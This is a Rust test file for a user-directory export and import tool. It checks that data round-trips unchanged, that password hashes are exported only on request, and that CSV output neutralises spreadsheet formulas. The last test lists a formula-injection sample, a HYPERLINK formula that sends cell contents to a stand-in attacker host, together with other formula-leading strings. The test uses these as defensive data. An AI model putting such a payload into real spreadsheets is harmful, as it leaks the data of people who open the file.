//! What an export writes an import reads back to an equal directory.

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use serde_json::{Value, json};

use super::{export, import, lines, run};
use crate::support::{Beside, TestDatabase};

/// Texts as people write them, and as nobody expects them.
fn text() -> impl Strategy<Value = Option<String>> {
    prop::option::of("[^\\x00]{0,40}|[\"',;\\[\\]\\\\ \n\t]{1,8}|[a-zà-ÿα-ω]{1,20}")
}

fn rows() -> impl Strategy<Value = Vec<Value>> {
    let user = (
        text(),
        text(),
        text(),
        any::<bool>(),
        any::<bool>(),
        0..4_usize,
    );
    (prop::collection::vec(user, 1..20), text(), text()).prop_map(|(users, label, city)| {
        let mut rows = vec![
            json!({"kind": "workspaces", "code": "K/N", "title": "Kenya"}),
            json!({"kind": "clusters", "workspace": "K/N", "cluster_type": "wash", "title": "W/S"}),
            json!({"kind": "roles", "name": "part; [one]", "label": label, "permissions": ["users:read"]}),
            json!({"kind": "roles", "name": "whole", "includes": ["part; [one]"], "unchangeable": true}),
            json!({"kind": "partners", "title": "Wells", "city": city, "clusters": ["K/N/wash/W/S"]}),
            json!({"kind": "partners", "title": "Wells", "vendor_number": "V1"}),
        ];
        for (number, (name, organization, position, active, staff, role)) in users.into_iter().enumerate() {
            let roles = [json!([]), json!(["whole"]), json!(["part; [one]", "whole"]), json!(["admin"])];
            let username = format!("user{number}@example.org");
            rows.push(json!({
                "kind": "users", "username": username, "name": name, "organization": organization,
                "position": position, "is_active": active, "is_staff": staff, "partner": "V1",
                "roles": roles[role], "created": "2020-02-03T04:05:06+00:00",
                "last_login": "2021-02-03T04:05:06+00:00",
            }));
            rows.push(json!({
                "kind": "grants", "user": username, "role": "CLUSTER_MEMBER", "cluster": "K/N/wash/W/S",
                "is_active": active, "valid_until": "2031-01-01T00:00:00+00:00",
            }));
        }
        rows
    })
}

#[test]
fn a_directory_comes_back_as_it_was() {
    let mut runner = TestRunner::new(Config {
        cases: 6,
        failure_persistence: None,
        ..Config::default()
    });
    let outcome = runner.run(&rows(), |rows| {
        let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
        import(&first, lines(&rows), &[]).well();
        let written = export(&first, &[]);
        // All that was given is there, with nothing but defaults beside it.
        let back = written.rows();
        for row in rows.iter().filter(|row| row["kind"] == "users") {
            let same = back
                .iter()
                .find(|other| other["username"] == row["username"])
                .unwrap();
            for (name, value) in row.as_object().unwrap() {
                prop_assert_eq!(&same[name], value, "{}", name);
            }
        }
        import(&second, &written.out, &[]).well();
        prop_assert_eq!(&export(&second, &[]).out, &written.out);
        run(&second, &["check"]).well();
        Ok(())
    });
    outcome.unwrap();
}

#[test]
fn a_table_of_users_comes_back_too() {
    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
    let rows = lines(&[
        json!({"kind": "roles", "name": "a;b"}),
        json!({"kind": "roles", "name": "plain"}),
        json!({"username": "calvin", "name": "Calvin, \"the\"\nfirst", "roles": ["a;b", "plain"]}),
        json!({"username": "hobbes", "is_active": false, "roles": ["plain"]}),
    ]);
    import(&first, rows, &[]).well();
    let users = export(&first, &["--kind", "users", "--format", "csv"]).out;
    let roles = export(&first, &["--kind", "roles"]).out;
    import(&second, roles, &[]).well();
    import(&second, &users, &["--format", "csv"]).well();
    assert_eq!(export(&second, &[]).out, export(&first, &[]).out);
}

#[test]
fn hashes_of_passwords_are_written_only_when_asked_for() {
    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
    run(&first, &["user", "add", "calvin"]).well();
    assert!(!export(&first, &[]).out.contains("argon2"));
    let with = export(&first, &["--with-password-hashes"]).out;
    assert!(with.contains("$argon2id$"), "{with}");
    import(&second, &with, &[]).well();
    assert_eq!(export(&second, &["--with-password-hashes"]).out, with);
}

#[test]
fn a_generated_directory_is_the_same_from_the_same_seed_and_comes_back() {
    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
    run(&first, &["generate", "--users", "400", "--seed", "7"]).well();
    let text = run(
        &first,
        &["generate", "--users", "400", "--seed", "7", "--to", "-"],
    )
    .well()
    .out;
    import(&second, text, &[]).well();
    let written = export(&first, &["--kind", "users"]).out;
    assert_eq!(written.lines().count(), 400);
    assert_eq!(export(&second, &["--kind", "users"]).out, written);
    assert_eq!(
        Beside::count(
            &first,
            "grants",
            "workspace_id IS NULL AND cluster_id IS NULL"
        ),
        800
    );
    assert!(Beside::count(&first, "grants", "cluster_id IS NOT NULL") > 0);
    run(&first, &["check"]).well();
}

#[test]
fn a_table_holds_no_formulas_and_comes_back_as_it_was() {
    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
    let texts = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+49 30 901820",
        "-5",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'=1",
        "''=1",
        "'tis",
        "O'Brien",
        "'",
        "＝1+1",
    ];
    let rows: Vec<Value> = texts
        .iter()
        .enumerate()
        .map(|(number, text)| json!({"username": format!("user{number}"), "name": text, "surname": text}))
        .collect();
    import(&first, lines(&rows), &[]).well();
    let table = ["--kind", "users", "--format", "csv"];
    let written = export(&first, &table).out;
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            let first = cell.chars().next();
            assert!(
                !first.is_some_and(|c| "=+-@\t\r\n＝".contains(c)),
                "{cell:?}"
            );
        }
    }
    import(&second, &written, &["--kind", "users", "--format", "csv"]).well();
    assert_eq!(export(&second, &table).out, written);
    let back = export(&second, &["--kind", "users"]).rows();
    let names: Vec<&str> = back
        .iter()
        .map(|row| row["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, texts);
}
